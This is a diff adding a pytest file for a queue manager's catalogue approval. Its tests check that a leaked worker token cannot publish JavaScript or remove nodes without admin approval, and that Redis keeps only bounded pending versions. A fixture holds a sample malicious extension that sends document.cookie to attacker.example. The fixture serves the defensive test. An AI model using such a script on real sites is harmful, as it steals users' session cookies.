@@ -1,0 +1,121 @@
+"""A leaked worker token owns nothing: what a registration publishes reaches participants' pages only
+when it merely adds to the approved catalogue, or when the admin approves it; Redis keeps only the
+approved version and a few waiting ones."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator, Callable
+from typing import Any
+
+import httpx
+import pytest
+from redis.asyncio import Redis
+
+from services.protocol.workers import WorkerCapabilities, WorkerRegistration
+from services.queue_manager.catalogues import MAX_PENDING
+from services.queue_manager.store import Store
+from tests.doubles.comfyui_nodes import catalogue
+from tests.support.queue_manager_app import (
+    ADMIN,
+    ADMIN_PASSWORD,
+    POOL_TOKEN,
+    login,
+    register_worker,
+    settings_for,
+)
+from tests.support.servers import wait_until
+
+EVIL = {"evil/steal.js": "fetch('https://attacker.example/' + document.cookie)"}
+
+
+def grown() -> dict[str, Any]:
+    """The stock catalogue plus a custom node and a new upscale method: it only adds."""
+    nodes = catalogue([])
+    nodes["MyCustomNode"] = {**nodes["ImageInvert"], "name": "MyCustomNode", "display_name": "My node"}
+    method = nodes["ImageScale"]["input"]["required"]["upscale_method"]
+    nodes["ImageScale"]["input"]["required"]["upscale_method"] = [[*method[0], "new-method"]]
+    return nodes
+
+
+def served(client: httpx.Client) -> tuple[set[str], list[str]]:
+    return set(client.get("/w/alice/api/object_info").json()), client.get("/w/alice/api/extensions").json()
+
+
+def test_a_leaked_tokens_javascript_and_missing_nodes_wait_for_the_admin(
+    alice: httpx.Client, worker: httpx.Client, app_factory: Callable[[], httpx.Client]
+) -> None:
+    evil = catalogue([])
+    del evil["SaveImage"]  # every participant's prompt would be refused
+    register_worker(app_factory(), evil, "w-leaked", "cat-evil", EVIL)
+    register_worker(worker, grown(), "w1", "cat-v2")  # the real worker's update: it only adds
+    wait_until(lambda: "MyCustomNode" in served(alice)[0], timeout=5, what="the additive version served")
+    nodes, extensions = served(alice)
+    assert "SaveImage" in nodes and extensions == ["/extensions/comfy-workshop/notice.js"]
+    assert alice.get("/w/alice/extensions/evil/steal.js").status_code == 404
+
+    admin = login(app_factory(), ADMIN, ADMIN_PASSWORD)
+    state = admin.get("/api/admin/catalogues").json()
+    assert state["approved"] == "cat-v2" and [c["digest"] for c in state["pending"]] == ["cat-evil"]
+    offer = state["pending"][0]
+    assert offer["worker_id"] == "w-leaked" and offer["removed"] == ["SaveImage"]
+    assert offer["added"] == offer["changed"] == []  # against the version approved when it came
+    assert offer["extensions_added"] == ["evil/steal.js"]
+    approve = "/api/admin/catalogues/cat-evil/approve"
+    assert alice.post(approve).status_code == 403
+    assert app_factory().post(approve, headers={"Authorization": f"Bearer {POOL_TOKEN}"}).status_code == 401
+    assert admin.post("/api/admin/catalogues/nope/approve").status_code == 404
+    assert admin.post(approve).status_code == 204
+    wait_until(lambda: "SaveImage" not in served(alice)[0], timeout=5, what="the approved version served")
+    assert "/extensions/evil/steal.js" in served(alice)[1]
+
+
+def registration(worker_id: str, digest: str, nodes: dict[str, Any], **ext: str) -> WorkerRegistration:
+    caps = WorkerCapabilities(pool="gpu", provider="local", catalogue_hash=digest)
+    return WorkerRegistration(worker_id=worker_id, capabilities=caps, catalogue=nodes, extensions=ext)
+
+
+@pytest.fixture
+async def store(redis_url: str) -> AsyncIterator[Store]:
+    redis = Redis.from_url(redis_url, decode_responses=True)
+    yield Store(redis, settings_for(redis_url))
+    await redis.aclose()
+
+
+async def test_the_first_version_goes_live_only_without_javascript(store: Store) -> None:
+    await store.register(registration("w1", "cat-js", catalogue([]), **{"p/x.js": "1"}))
+    assert (await store.catalogue_state()).approved == ""
+    await store.register(registration("w2", "cat-plain", catalogue([])))
+    state = await store.catalogue_state()
+    assert state.approved == "cat-plain" and [c.digest for c in state.pending] == ["cat-js"]
+
+
+async def test_a_version_that_removes_an_option_or_changes_a_node_waits(store: Store) -> None:
+    await store.register(registration("w1", "cat-v1", grown()))
+    fewer = grown()
+    fewer["ImageScale"]["input"]["required"]["upscale_method"] = [["nearest-exact"]]
+    changed = grown()
+    changed["ImageInvert"]["output"] = ["MASK"]
+    await store.register(registration("w2", "cat-fewer", fewer))
+    await store.register(registration("w3", "cat-changed", changed))
+    state = await store.catalogue_state()
+    assert state.approved == "cat-v1"
+    assert {c.digest: c.changed for c in state.pending} == {
+        "cat-fewer": ["ImageScale"],
+        "cat-changed": ["ImageInvert"],
+    }
+
+
+async def test_only_the_approved_and_the_newest_waiting_versions_stay_in_redis(store: Store) -> None:
+    await store.register(registration("w0", "cat-base", catalogue([])))
+    for index in range(MAX_PENDING + 6):  # a leaked token registering under ever new hashes
+        await store.register(
+            registration(f"w{index + 1}", f"cat-{index}", catalogue([]), **{"p/x.js": str(index)})
+        )
+    kept = [key async for key in store.redis.scan_iter(f"{store.prefix}:catalogue:*")]
+    newest = {f"cat-{index}" for index in range(6, MAX_PENDING + 6)}
+    assert {key.rsplit(":", 1)[1] for key in kept} == {"cat-base", *newest}
+    state = await store.catalogue_state()
+    assert state.approved == "cat-base" and {c.digest for c in state.pending} == newest
+    assert await store.redis.scard(store.keys.catalogues) == 1 + MAX_PENDING
+    extension_sets = [key async for key in store.redis.scan_iter(f"{store.prefix}:catalogue_ext:*")]
+    assert len(extension_sets) == MAX_PENDING
